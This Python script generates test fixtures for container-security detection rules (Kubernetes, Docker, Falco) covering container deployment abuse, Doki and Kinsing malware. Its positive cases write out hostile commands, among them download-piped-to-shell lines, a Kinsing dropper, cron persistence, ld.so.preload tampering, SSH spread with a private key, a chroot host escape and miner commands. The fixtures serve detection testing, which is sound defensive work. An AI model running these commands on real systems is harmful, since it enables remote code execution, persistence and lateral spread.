#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Writes the rule test cases under corpus/<pack>/: for each rule NAME,
NAME.pos.jsonl / NAME.pos.log (events that must fire it) and NAME.neg.jsonl /
NAME.neg.log (near misses that must not). `gantry test` finds them by rule
name. Each case below says in its comment why it is (not) a match.

Run from the repository root: python3 tools/gen_cases.py"""

import os
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from eventlib import (Clock, audit, container, dashboard_deploy_form, dashboard_request,  # noqa: E402
                      dashboard_response, dns_log, docker_create_body, docker_event,
                      dockerd_call, dockerd_create, dockerd_exec, falco_alert, pod_spec,
                      proxy_log, stable_id, workload)

clock = Clock(start_offset=86400, step=3)
CASES = {}  # (pack, rule) -> {"pos": {"jsonl": [...], "log": [...]}, "neg": {...}}

SA_RS = "system:serviceaccount:kube-system:replicaset-controller"
SA_DS = "system:serviceaccount:kube-system:daemon-set-controller"
SA_CI = "system:serviceaccount:ci:deployer"
# An installer of platform components (rules/lists/platform.gantry platform_installers).
INSTALLER = "kubernetes-admin"
ATTACKER_IP = "198.51.100.23"


def add(pack, rule, kind, *events):
    """kind: pos or neg; events: JSON lines (str) or dockerd/dashboard line
    lists (list of str: one event spread over several lines)."""
    slot = CASES.setdefault((pack, rule), {"pos": {"jsonl": [], "log": []},
                                           "neg": {"jsonl": [], "log": []}})
    for ev in events:
        if isinstance(ev, list):
            slot[kind]["log"].extend(ev)
        elif ev.startswith("{"):
            slot[kind]["jsonl"].append(ev)
        else:
            slot[kind]["log"].append(ev)


def t():
    return clock.tick()


def cid(*parts):
    return stable_id(*parts)


def k8s_create(resource, name, ns, spec, user="alice@corp.example", verb="create", **kw):
    return audit(t(), verb, resource, ns, user=user, name=name if verb != "create" else None,
                 request_object=workload(resource, name, ns, spec), **kw)


def simple_pod(image="registry.corp.example/shop/api:1.4.2", **kw):
    return pod_spec([container("app", image)], **kw)


def dcreate(name, image, **kw):
    return dockerd_create(t(), name, docker_create_body(image, **kw))


KINSING_CMD = ("apt-get update && apt-get install -y wget cron;service cron start; "
               "wget -q -O - 142.44.191.122/d.sh | sh;tail -f /dev/null")

# ---------------------------------------------------------------- T1610 ---
P = "t1610"

# A human or CI principal creates workloads; controllers and reads do not count.
add(P, "k8s_workload_created_by_user", "pos",
    k8s_create("pods", "debug-shell", "shop", simple_pod()),
    k8s_create("deployments", "api", "shop", simple_pod(), user=SA_CI),
    k8s_create("cronjobs", "report", "finance", simple_pod(), user="bob@corp.example"))
add(P, "k8s_workload_created_by_user", "neg",
    # the replicaset controller materialising a pod: a system principal
    k8s_create("pods", "api-5f7c9-x2x7q", "shop", simple_pod(), user=SA_RS),
    # a read of a pod
    audit(t(), "get", "pods", "shop", name="api-5f7c9-x2x7q"),
    # the same create at RequestReceived stage (reported once, at ResponseComplete)
    k8s_create("pods", "debug-shell", "shop", simple_pod(), stage="RequestReceived"),
    # a non-workload resource
    audit(t(), "create", "configmaps", "shop", request_object={"kind": "ConfigMap"}))

# Docker Engine API container creates (daemon log and events).
add(P, "docker_api_container_created", "pos",
    dcreate("web", "registry.corp.example/shop/web:2.3.1"),
    docker_event(t(), "create", cid("c1"), "registry.corp.example/shop/web:2.3.1", "web"))
add(P, "docker_api_container_created", "neg",
    # an image pull is POST /images/create, not a container create
    dockerd_call(t(), "POST", "/images/create?fromImage=nginx&tag=1.25.3"),
    dockerd_call(t(), "GET", "/containers/json?all=1"),
    docker_event(t(), "create", cid("n1"), name="backend", type_="network",
                 extra={"type": "bridge"}),
    docker_event(t(), "start", cid("c1"), "registry.corp.example/shop/web:2.3.1", "web"))

# Deploys through the Dashboard backend.
add(P, "dashboard_workload_deployed", "pos",
    dashboard_request(t(), "POST", "/api/v1/appdeployment", f"{ATTACKER_IP}:51022",
                      dashboard_deploy_form("web", "nginx:1.25.3")),
    dashboard_request(t(), "POST", "/api/v1/appdeploymentfromfile", "10.20.0.15:40112",
                      {"name": "cm.yaml", "namespace": "default", "validate": True,
                       "content": "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: t1\n"}))
add(P, "dashboard_workload_deployed", "neg",
    dashboard_request(t(), "GET", "/api/v1/deployment/default", "10.20.0.15:40113"),
    dashboard_request(t(), "POST", "/api/v1/login", "10.20.0.15:40114",
                      {"token": "", "username": "", "password": ""}),
    dashboard_response(t(), f"{ATTACKER_IP}:51022", 201))

add(P, "dashboard_risky_workload_deployed", "pos",
    dashboard_request(t(), "POST", "/api/v1/appdeployment", f"{ATTACKER_IP}:51023",
                      dashboard_deploy_form("sys", "ubuntu:22.04", privileged=True)),
    dashboard_request(t(), "POST", "/api/v1/appdeploymentfromfile", f"{ATTACKER_IP}:51024",
                      {"name": "pod.yaml", "namespace": "default", "validate": True,
                       "content": "apiVersion: v1\nkind: Pod\nmetadata:\n  name: x\nspec:\n"
                                  "  hostPID: true\n  containers:\n  - name: x\n"
                                  "    image: ubuntu\n    securityContext:\n"
                                  "      privileged: true\n"}))
add(P, "dashboard_risky_workload_deployed", "neg",
    dashboard_request(t(), "POST", "/api/v1/appdeployment", "10.20.0.15:40115",
                      dashboard_deploy_form("web", "nginx:1.25.3", privileged=False)),
    dashboard_request(t(), "POST", "/api/v1/appdeploymentfromfile", "10.20.0.15:40116",
                      {"name": "d.yaml", "namespace": "default", "validate": True,
                       "content": "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n"
                                  "  name: web\nspec:\n  replicas: 2\n"}))

# Exec / attach into running containers.
add(P, "container_exec", "pos",
    audit(t(), "create", "pods", "shop", name="api-5f7c9-x2x7q", subresource="exec",
          stage="ResponseStarted", query="command=bash&container=app&stdin=true&stdout=true&tty=true"),
    audit(t(), "create", "pods", "shop", name="api-5f7c9-x2x7q", subresource="attach",
          stage="ResponseStarted", query="container=app&stdin=true&stdout=true&tty=true"),
    docker_event(t(), "exec_create: /bin/sh", cid("c1"), "registry.corp.example/shop/web:2.3.1",
                 "web", extra={"execID": cid("e1")}),
    dockerd_exec(t(), cid("c1")[:12], ["/bin/sh"]))
add(P, "container_exec", "neg",
    audit(t(), "get", "pods", "shop", name="api-5f7c9-x2x7q", subresource="log"),
    audit(t(), "get", "pods", "shop", name="api-5f7c9-x2x7q"),
    docker_event(t(), "start", cid("c1"), "registry.corp.example/shop/web:2.3.1", "web"),
    dockerd_call(t(), "POST", f"/containers/{cid('c1')[:12]}/start"))

# Privileged containers: pods, pod templates (init containers too), Docker.
add(P, "privileged_container_deployed", "pos",
    k8s_create("pods", "priv", "default",
               pod_spec([container("x", "ubuntu:22.04", privileged=True)])),
    k8s_create("deployments", "agent", "shop",
               pod_spec([container("app", "registry.corp.example/shop/api:1.4.2")],
                        init_containers=[container("setup", "busybox:1.36", privileged=True)])),
    k8s_create("cronjobs", "cleanup", "ops",
               pod_spec([container("c", "alpine:3.19", privileged=True)])),
    dcreate("priv", "ubuntu:22.04", cmd=["bash"], privileged=True))
add(P, "privileged_container_deployed", "neg",
    k8s_create("pods", "unpriv", "default",
               pod_spec([container("x", "ubuntu:22.04", privileged=False)])),
    # kube-proxy is privileged by design: its pod, in kube-system, by the daemon set controller
    k8s_create("pods", "kube-proxy-7xk2p", "kube-system",
               pod_spec([container("kube-proxy", "registry.k8s.io/kube-proxy:v1.29.2",
                                   privileged=True)], host_network=True), user=SA_DS),
    dcreate("web", "registry.corp.example/shop/web:2.3.1", privileged=False),
    audit(t(), "get", "pods", "default", name="priv"))

add(P, "host_pid_container_deployed", "pos",
    k8s_create("pods", "pidns", "default", simple_pod(host_pid=True)),
    dcreate("pidns", "ubuntu:22.04", cmd=["sleep", "infinity"], pid_mode="host"))
add(P, "host_pid_container_deployed", "neg",
    k8s_create("pods", "nopid", "default", simple_pod(host_pid=False)),
    # node-exporter in a monitoring namespace from an installer (platform.gantry)
    k8s_create("daemonsets", "node-exporter", "monitoring",
               pod_spec([container("ne", "quay.io/prometheus/node-exporter:v1.7.0")],
                        host_pid=True, host_network=True), user=INSTALLER),
    dcreate("app", "ubuntu:22.04", pid_mode="container:" + cid("c1")[:12]))

add(P, "host_network_container_deployed", "pos",
    k8s_create("deployments", "netns", "default", simple_pod(host_network=True)),
    dcreate("netns", "ubuntu:22.04", network_mode="host"))
add(P, "host_network_container_deployed", "neg",
    k8s_create("deployments", "web", "default", simple_pod(host_network=False)),
    # the Calico manifest install into kube-system, by an installer
    k8s_create("daemonsets", "calico-node", "kube-system",
               pod_spec([container("calico-node", "calico/node:v3.27.0", privileged=True)],
                        host_network=True), user=INSTALLER),
    dcreate("web", "ubuntu:22.04", network_mode="bridge"))

add(P, "host_ipc_container_deployed", "pos",
    k8s_create("statefulsets", "shm", "default", simple_pod(host_ipc=True)),
    dcreate("shm", "ubuntu:22.04", ipc_mode="host"))
add(P, "host_ipc_container_deployed", "neg",
    k8s_create("statefulsets", "db", "default", simple_pod()),
    dcreate("db", "ubuntu:22.04", ipc_mode="shareable"))

add(P, "sensitive_host_path_mounted", "pos",
    k8s_create("pods", "sock", "default",
               pod_spec([container("x", "docker:24-cli", mounts=[("sock", "/var/run/docker.sock")])],
                        host_paths={"sock": "/var/run/docker.sock"})),
    k8s_create("deployments", "kcfg", "default",
               pod_spec([container("x", "ubuntu:22.04", mounts=[("k", "/k")])],
                        host_paths={"k": "/etc/kubernetes"})),
    k8s_create("jobs", "procs", "default",
               pod_spec([container("x", "ubuntu:22.04", mounts=[("p", "/host/proc")])],
                        host_paths={"p": "/proc"})),
    dcreate("sock", "docker:24-cli", binds=["/var/run/docker.sock:/var/run/docker.sock"]),
    dcreate("rootdir", "ubuntu:22.04",
            mounts=[{"Type": "bind", "Source": "/root", "Target": "/r", "ReadOnly": False}]))
add(P, "sensitive_host_path_mounted", "neg",
    k8s_create("pods", "logs", "default",
               pod_spec([container("x", "ubuntu:22.04", mounts=[("l", "/var/log")])],
                        host_paths={"l": "/var/log"})),
    # /etc/ssl/certs is not /etc itself
    k8s_create("pods", "certs", "default",
               pod_spec([container("x", "ubuntu:22.04", mounts=[("c", "/etc/ssl/certs")])],
                        host_paths={"c": "/etc/ssl/certs"})),
    dcreate("data", "postgres:16.1", binds=["/srv/app/data:/var/lib/postgresql/data"]),
    dcreate("vol", "postgres:16.1",
            mounts=[{"Type": "volume", "Source": "pgdata", "Target": "/var/lib/postgresql/data"}]))

add(P, "dangerous_capability_added", "pos",
    k8s_create("pods", "capsys", "default",
               pod_spec([container("x", "ubuntu:22.04", caps_add=["SYS_ADMIN"])])),
    k8s_create("daemonsets", "netcap", "default",
               pod_spec([container("x", "ubuntu:22.04", caps_add=["NET_ADMIN", "NET_RAW"])])),
    dcreate("ptrace", "ubuntu:22.04", cap_add=["SYS_PTRACE"]))
add(P, "dangerous_capability_added", "neg",
    k8s_create("pods", "bind", "default",
               pod_spec([container("x", "nginx:1.25.3", caps_add=["NET_BIND_SERVICE"])])),
    # dropping everything is the opposite of adding
    dcreate("dropall", "ubuntu:22.04", cap_drop=["ALL"]),
    k8s_create("pods", "dropall", "default",
               pod_spec([container("x", "nginx:1.25.3", caps_drop=["ALL"])])))

add(P, "escape_ready_container_deployed", "pos",
    k8s_create("pods", "escape", "default",
               pod_spec([container("x", "ubuntu:22.04", privileged=True)], host_pid=True)),
    dcreate("escape", "alpine:3.19", privileged=True, binds=["/:/host"]),
    k8s_create("deployments", "sockcap", "default",
               pod_spec([container("x", "docker:24-cli", caps_add=["SYS_ADMIN"],
                                   mounts=[("s", "/var/run/docker.sock")])],
                        host_paths={"s": "/var/run/docker.sock"})))
add(P, "escape_ready_container_deployed", "neg",
    # privileged alone
    k8s_create("pods", "priv2", "default",
               pod_spec([container("x", "ubuntu:22.04", privileged=True)])),
    # host PID alone
    k8s_create("pods", "pid2", "default", simple_pod(host_pid=True)),
    # a sensitive mount without privilege
    dcreate("sock2", "docker:24-cli", binds=["/var/run/docker.sock:/var/run/docker.sock"]))

add(P, "untrusted_registry_image_deployed", "pos",
    k8s_create("pods", "web", "default", simple_pod(image="nginx:1.25.3")),
    dcreate("tool", "ghcr.io/example/tool:1.0.0"),
    docker_event(t(), "create", cid("c7"), "quay.io/example/agent:2.1", "agent"))
add(P, "untrusted_registry_image_deployed", "neg",
    k8s_create("pods", "api", "shop", simple_pod()),
    k8s_create("pods", "pause", "shop", simple_pod(image="registry.k8s.io/pause:3.9")),
    # a patch that carries no pod template has no image to judge
    audit(t(), "patch", "deployments", "shop", name="api",
          request_object={"spec": {"template": {"metadata": {"annotations": {
              "kubectl.kubernetes.io/restartedAt": "2026-11-21T10:00:00Z"}}}}}))

add(P, "latest_tag_image_deployed", "pos",
    k8s_create("pods", "u", "default", simple_pod(image="ubuntu")),
    k8s_create("pods", "n", "default", simple_pod(image="nginx:latest")),
    dcreate("a", "alpine:latest"))
add(P, "latest_tag_image_deployed", "neg",
    k8s_create("pods", "n2", "default", simple_pod(image="nginx:1.25.3")),
    k8s_create("pods", "n3", "default", simple_pod(image="example/app:latest-2026")),
    dcreate("a2", "alpine:3.19"))

add(P, "system_namespace_unexpected_image", "pos",
    k8s_create("pods", "nginx-x7", "kube-system", simple_pod(image="nginx"), user=SA_RS),
    k8s_create("daemonsets", "helper", "kube-public", simple_pod(image="busybox:1.36"),
               user=SA_CI))
add(P, "system_namespace_unexpected_image", "neg",
    k8s_create("pods", "coredns-5d78c9869d-abcde", "kube-system",
               simple_pod(image="registry.k8s.io/coredns/coredns:v1.11.1"), user=SA_RS),
    k8s_create("pods", "nginx", "default", simple_pod(image="nginx:1.25.3")),
    audit(t(), "patch", "deployments", "kube-system", name="coredns", user=SA_CI,
          request_object={"spec": {"template": {"metadata": {"annotations": {
              "kubectl.kubernetes.io/restartedAt": "2026-11-21T10:00:00Z"}}}}}))

add(P, "system_namespace_workload_by_user", "pos",
    k8s_create("deployments", "metrics", "kube-system",
               simple_pod(image="registry.k8s.io/metrics-server/metrics-server:v0.7.0")),
    k8s_create("pods", "shell", "kube-system", simple_pod(image="ubuntu:22.04"),
               user="system:anonymous"))
add(P, "system_namespace_workload_by_user", "neg",
    k8s_create("pods", "coredns-5d78c9869d-fghij", "kube-system",
               simple_pod(image="registry.k8s.io/coredns/coredns:v1.11.1"), user=SA_RS),
    k8s_create("deployments", "metrics", "monitoring", simple_pod()),
    k8s_create("pods", "kube-apiserver-cp-1", "kube-system",
               simple_pod(image="registry.k8s.io/kube-apiserver:v1.29.2", node_name="cp-1"),
               user="system:node:cp-1"))

add(P, "anonymous_k8s_write_request", "pos",
    k8s_create("pods", "anon", "default", simple_pod(image="ubuntu:22.04"),
               user="system:anonymous", source_ip=ATTACKER_IP),
    audit(t(), "create", "namespaces", user="system:unauthenticated", source_ip=ATTACKER_IP,
          request_object={"kind": "Namespace", "metadata": {"name": "x"}}, code=403,
          decision="forbid"),
    audit(t(), "create", "pods", "default", name="web-1", subresource="exec",
          user="system:anonymous", stage="ResponseStarted", source_ip=ATTACKER_IP,
          query="command=id&container=web&stdout=true"))
add(P, "anonymous_k8s_write_request", "neg",
    audit(t(), "get", "namespaces", user="system:anonymous", source_ip=ATTACKER_IP),
    k8s_create("pods", "web", "default", simple_pod()))

add(P, "workload_pinned_to_node", "pos",
    k8s_create("pods", "pinned", "default", simple_pod(node_name="worker-2")),
    k8s_create("jobs", "pinned-job", "default", simple_pod(node_name="cp-1")))
add(P, "workload_pinned_to_node", "neg",
    # a kubelet writing the mirror pod of a static pod
    k8s_create("pods", "etcd-cp-1", "kube-system",
               simple_pod(image="registry.k8s.io/etcd:3.5.12-0", node_name="cp-1"),
               user="system:node:cp-1"),
    k8s_create("pods", "free", "default", simple_pod()))

add(P, "download_piped_to_shell", "pos",
    k8s_create("pods", "fetch", "default",
               pod_spec([container("x", "ubuntu:22.04", command=["sh", "-c"],
                                   args=["curl -fsSL http://198.51.100.7/x.sh | sh"])])),
    dcreate("fetch", "ubuntu:22.04", cmd=["/bin/bash", "-c",
                                          "wget -q -O - http://198.51.100.7/a.sh | bash"]),
    audit(t(), "create", "pods", "shop", name="api-5f7c9-x2x7q", subresource="exec",
          stage="ResponseStarted",
          query="command=sh&command=-c&command=curl%20-s%20http%3A%2F%2F198.51.100.7%2Fp%20%7C%20sh"
                "&container=app&stdout=true"),
    falco_alert(t(), "Run shell untrusted", "Notice",
                {"proc.cmdline": "sh -c wget -qO- http://198.51.100.7/y | sh",
                 "proc.name": "sh", "proc.exepath": "/bin/sh"}),
    dcreate("sub", "ubuntu:22.04", cmd=["bash", "-c", "bash -c \"$(curl -fsSL http://198.51.100.7/i)\""]))
add(P, "download_piped_to_shell", "neg",
    dcreate("dl", "ubuntu:22.04", cmd=["sh", "-c", "curl -o /tmp/data.tgz http://198.51.100.7/d"]),
    dcreate("sum", "ubuntu:22.04",
            cmd=["sh", "-c", "curl -sL http://198.51.100.7/f | sha256sum"]),
    falco_alert(t(), "Run shell untrusted", "Notice",
                {"proc.cmdline": "sh -c curl -s http://api:8080/health | grep ok",
                 "proc.name": "sh"}))

add(P, "base64_decoded_shell_command", "pos",
    dcreate("b64", "ubuntu:22.04", cmd=["sh", "-c",
            "echo Y3VybCBodHRwOi8vMTk4LjUxLjEwMC43L3ggfCBzaA== | base64 -d | sh"]),
    k8s_create("pods", "b64", "default",
               pod_spec([container("x", "ubuntu:22.04", command=["bash", "-c"],
                                   args=["eval $(echo ZWNobyBoaQ== | base64 --decode)"])])))
add(P, "base64_decoded_shell_command", "neg",
    dcreate("cfg", "ubuntu:22.04",
            cmd=["sh", "-c", "echo $CONFIG | base64 -d > /etc/app/config.json && exec app"]))

# ----------------------------------------------------------------- Doki ---
P = "doki"

add(P, "host_root_bind_mounted", "pos",
    dcreate("doki", "alpine:3.12", binds=["/:/tmp"],
            cmd=["chroot", "/tmp", "sh", "-c", "echo hi"]),
    k8s_create("pods", "rootfs", "default",
               pod_spec([container("x", "alpine:3.19", mounts=[("root", "/host")])],
                        host_paths={"root": "/"})))
add(P, "host_root_bind_mounted", "neg",
    dcreate("srv", "alpine:3.12", binds=["/srv:/tmp"]),
    k8s_create("pods", "logs2", "default",
               pod_spec([container("x", "alpine:3.19", mounts=[("l", "/var/log")])],
                        host_paths={"l": "/var/log"})),
    k8s_create("daemonsets", "node-exporter", "monitoring",
               pod_spec([container("ne", "quay.io/prometheus/node-exporter:v1.7.0",
                                   mounts=[("root", "/host/root")])],
                        host_paths={"root": "/"}, host_pid=True), user=INSTALLER))

add(P, "chroot_into_host_mount", "pos",
    dcreate("chr", "alpine:3.12", binds=["/:/tmp"],
            entrypoint=["/bin/sh", "-c"],
            cmd=["chroot /tmp sh -c 'echo \"* * * * * root sh /tmp/x\" >> /etc/crontab'"]),
    falco_alert(t(), "Run shell untrusted", "Notice",
                {"proc.cmdline": "chroot /host bash", "proc.name": "chroot",
                 "proc.exepath": "/usr/sbin/chroot"}))
add(P, "chroot_into_host_mount", "neg",
    dcreate("ls", "alpine:3.12", cmd=["ls", "/var/chroot"]),
    falco_alert(t(), "Run shell untrusted", "Notice",
                {"proc.cmdline": "sh -c echo chroot done", "proc.name": "sh"}))

add(P, "alpine_curl_container_via_api", "pos",
    dcreate("a1", "alpine:3.12", cmd=["sh", "-c", "apk add curl && curl -s http://198.51.100.9/x"]),
    dcreate("a2", "byrnedo/alpine-curl:0.1.8", cmd=["-s", "http://198.51.100.9/y"],
            entrypoint=["curl"]))
add(P, "alpine_curl_container_via_api", "neg",
    dcreate("a3", "alpine:3.12", cmd=["echo", "hello"]),
    dcreate("n1", "nginx:1.25.3", cmd=["curl", "-s", "http://localhost/"]),
    # not through the Docker API
    k8s_create("pods", "a4", "default",
               pod_spec([container("x", "alpine:3.19", command=["curl", "http://example.org/"])])))

add(P, "dogecoin_dga_domain", "pos",
    dns_log(t(), "10.244.1.17", "6d77335c4f23.ddns.net"),
    falco_alert(t(), "Outbound connection to C2", "Warning",
                {"fd.sip.name": "a1b2c3d4e5f6.ddns.net", "fd.name": "10.244.1.17:41122->203.0.113.77:443",
                 "evt.type": "connect", "proc.name": "dk", "proc.cmdline": "dk"}),
    dcreate("dga", "alpine:3.12", cmd=["sh", "-c", "curl -sk https://0f3e2d1c0b9a.ddns.net/p"]))
add(P, "dogecoin_dga_domain", "neg",
    dns_log(t(), "10.244.1.17", "myhomeserver.ddns.net"),
    dns_log(t(), "10.244.1.17", "6d77335c4f23a.ddns.net"),
    dns_log(t(), "10.244.1.17", "6d77335c4f23.example.net"))

add(P, "dogechain_api_request", "pos",
    proxy_log(t(), "10.244.1.17",
              "https://dogechain.info/api/v1/address/sent/DExampleWallet00000000000000000000"),
    dns_log(t(), "10.244.1.17", "dogechain.info"))
add(P, "dogechain_api_request", "neg",
    dns_log(t(), "10.244.1.17", "notdogechain.info"),
    proxy_log(t(), "10.244.1.17", "https://dogecoin.com/"))

add(P, "ngrok_tunnel_contacted", "pos",
    dns_log(t(), "10.244.1.17", "0a1b2c3d.ngrok.io"),
    proxy_log(t(), "10.244.1.17", "https://f00d-198-51-100-4.ngrok-free.app/upload", "POST"),
    dcreate("ng", "alpine:3.12", cmd=["sh", "-c", "curl -s https://4c1e.ngrok.io/s.sh -o /tmp/s"]))
add(P, "ngrok_tunnel_contacted", "neg",
    dns_log(t(), "10.244.1.17", "ngrok.com"),
    dns_log(t(), "10.244.1.17", "ngrok.io.example.net"))

# -------------------------------------------------------------- Kinsing ---
P = "kinsing"

add(P, "kinsing_ubuntu_dropper_command", "pos",
    dcreate("k", "ubuntu:latest", cmd=["/bin/bash", "-c", KINSING_CMD]),
    k8s_create("pods", "k", "default",
               pod_spec([container("x", "ubuntu", command=["/bin/bash", "-c"], args=[KINSING_CMD])])),
    falco_alert(t(), "Launch Package Management Process in Container", "Error",
                {"proc.cmdline": "bash -c " + KINSING_CMD, "proc.name": "bash",
                 "proc.exepath": "/bin/bash"}))
add(P, "kinsing_ubuntu_dropper_command", "neg",
    dcreate("k2", "ubuntu:22.04", cmd=["/bin/bash", "-c",
            "apt-get update && apt-get install -y wget cron;service cron start;tail -f /dev/null"]),
    dcreate("k3", "ubuntu:22.04", cmd=["/bin/bash", "-c",
            "apt-get install -y wget cron; wget -q -O /opt/d.sh http://198.51.100.7/d.sh"]))

add(P, "kinsing_process_or_file", "pos",
    falco_alert(t(), "Drop and execute new binary in container", "Critical",
                {"proc.name": "kdevtmpfsi", "proc.exepath": "/tmp/kdevtmpfsi",
                 "proc.cmdline": "kdevtmpfsi"}),
    falco_alert(t(), "Write below root", "Error",
                {"fd.name": "/tmp/kinsing", "proc.name": "wget", "evt.type": "openat",
                 "proc.cmdline": "wget -q -O /tmp/kinsing http://198.51.100.7/kinsing"}),
    falco_alert(t(), "Run shell untrusted", "Notice",
                {"proc.cmdline": "curl -o /etc/kinsing http://198.51.100.7/k", "proc.name": "curl"}))
add(P, "kinsing_process_or_file", "neg",
    falco_alert(t(), "Run shell untrusted", "Notice",
                {"proc.cmdline": "rm -f /tmp/kinsing /tmp/kdevtmpfsi", "proc.name": "rm"}),
    falco_alert(t(), "Drop and execute new binary in container", "Critical",
                {"proc.name": "kdevtmpfsi-check", "proc.exepath": "/usr/local/bin/kdevtmpfsi-check",
                 "proc.cmdline": "kdevtmpfsi-check --scan"}),
    falco_alert(t(), "Write below root", "Error",
                {"fd.name": "/tmp/kinsing.log", "proc.name": "logrotate", "evt.type": "openat",
                 "proc.cmdline": "logrotate /etc/logrotate.conf"}))

add(P, "cron_minutely_download_to_shell", "pos",
    falco_alert(t(), "Schedule Cron Jobs", "Notice",
                {"proc.cmdline": "sh -c (crontab -l 2>/dev/null; echo \"* * * * * wget -q -O - "
                                 "http://195.3.146.118/unk.sh | sh > /dev/null 2>&1\") | crontab -",
                 "proc.name": "sh"}),
    dcreate("cr", "ubuntu:22.04", cmd=["sh", "-c",
            "echo '* * * * * $LDR http://185.191.32.198/ex.sh | sh > /dev/null 2>&1' >> /var/spool/cron/root"]))
add(P, "cron_minutely_download_to_shell", "neg",
    falco_alert(t(), "Schedule Cron Jobs", "Notice",
                {"proc.cmdline": "sh -c echo \"*/5 * * * * /usr/local/bin/backup.sh\" | crontab -",
                 "proc.name": "sh"}),
    falco_alert(t(), "Schedule Cron Jobs", "Notice",
                {"proc.cmdline": "sh -c echo \"* * * * * curl -s http://localhost/cron.php > /dev/null\" | crontab -",
                 "proc.name": "sh"}))

add(P, "ld_so_preload_modified", "pos",
    falco_alert(t(), "Write below etc", "Error",
                {"fd.name": "/etc/ld.so.preload", "proc.name": "bash", "evt.type": "openat",
                 "proc.cmdline": "bash"}),
    falco_alert(t(), "Run shell untrusted", "Notice",
                {"proc.cmdline": "sh -c echo /etc/libsystem.so > /etc/ld.so.preload",
                 "proc.name": "sh"}))
add(P, "ld_so_preload_modified", "neg",
    falco_alert(t(), "Read sensitive file untrusted", "Warning",
                {"fd.name": "/etc/ld.so.preload", "proc.name": "cat", "evt.type": "openat",
                 "proc.cmdline": "cat /etc/ld.so.preload"}),
    falco_alert(t(), "Write below etc", "Error",
                {"fd.name": "/etc/ld.so.conf.d/local.conf", "proc.name": "ldconfig",
                 "evt.type": "openat", "proc.cmdline": "ldconfig"}))

add(P, "ssh_spread_download_to_shell", "pos",
    falco_alert(t(), "Outbound SSH from container", "Warning",
                {"proc.cmdline": "ssh -oStrictHostKeyChecking=no -oBatchMode=yes -oConnectTimeout=5 "
                                 "-i /root/.ssh/id_rsa root@10.0.3.7 -p22 \"sudo curl -L "
                                 "http://217.12.221.244/spr.sh|sh; sudo wget -q -O - "
                                 "http://217.12.221.244/spr.sh|sh;\"",
                 "proc.name": "ssh", "proc.exepath": "/usr/bin/ssh"}))
add(P, "ssh_spread_download_to_shell", "neg",
    falco_alert(t(), "Outbound SSH from container", "Warning",
                {"proc.cmdline": "ssh -oStrictHostKeyChecking=no deploy@10.0.3.7 uptime",
                 "proc.name": "ssh"}),
    falco_alert(t(), "Outbound SSH from container", "Warning",
                {"proc.cmdline": "ssh deploy@10.0.3.7 \"curl -L http://10.0.0.2/setup.sh|sh\"",
                 "proc.name": "ssh"}))

add(P, "rival_miner_killed", "pos",
    falco_alert(t(), "Run shell untrusted", "Notice",
                {"proc.cmdline": "pkill -f xmrig", "proc.name": "pkill"}),
    falco_alert(t(), "Run shell untrusted", "Notice",
                {"proc.cmdline": "sh -c ps aux | grep -v grep | grep kdevtmpfsi | awk '{print $2}' "
                                 "| xargs kill -9", "proc.name": "sh"}),
    dcreate("km", "ubuntu:22.04", cmd=["sh", "-c", "killall -9 minerd; sleep 3600"]))
add(P, "rival_miner_killed", "neg",
    falco_alert(t(), "Run shell untrusted", "Notice",
                {"proc.cmdline": "pkill -f gunicorn", "proc.name": "pkill"}),
    falco_alert(t(), "Run shell untrusted", "Notice",
                {"proc.cmdline": "sh -c ps aux | grep xmrig", "proc.name": "sh"}))

add(P, "cryptominer_process", "pos",
    falco_alert(t(), "Drop and execute new binary in container", "Critical",
                {"proc.name": "xmrig", "proc.exepath": "/tmp/.x/xmrig",
                 "proc.cmdline": "xmrig -o pool.example.org:3333"}),
    dcreate("mine", "ubuntu:22.04", cmd=["/opt/m/run", "-o", "stratum+tcp://pool.example.org:3333",
                                        "-u", "wallet"]))
add(P, "cryptominer_process", "neg",
    falco_alert(t(), "Run shell untrusted", "Notice",
                {"proc.name": "nginx", "proc.exepath": "/usr/sbin/nginx",
                 "proc.cmdline": "nginx -g daemon off;"}),
    dcreate("echo", "ubuntu:22.04", cmd=["echo", "stratum"]))


def main():
    root = sys.argv[1] if len(sys.argv) > 1 else "corpus"
    written = 0
    for (pack, rule), kinds in sorted(CASES.items()):
        os.makedirs(os.path.join(root, pack), exist_ok=True)
        for kind in ("pos", "neg"):
            for ext in ("jsonl", "log"):
                lines = kinds[kind][ext]
                path = os.path.join(root, pack, f"{rule}.{kind}.{ext}")
                if not lines:
                    if os.path.exists(path):
                        os.remove(path)
                    continue
                with open(path, "w") as f:
                    f.write("\n".join(lines) + "\n")
                written += 1
    print(f"wrote {written} files for {len(CASES)} rules under {root}/")


if __name__ == "__main__":
    main()
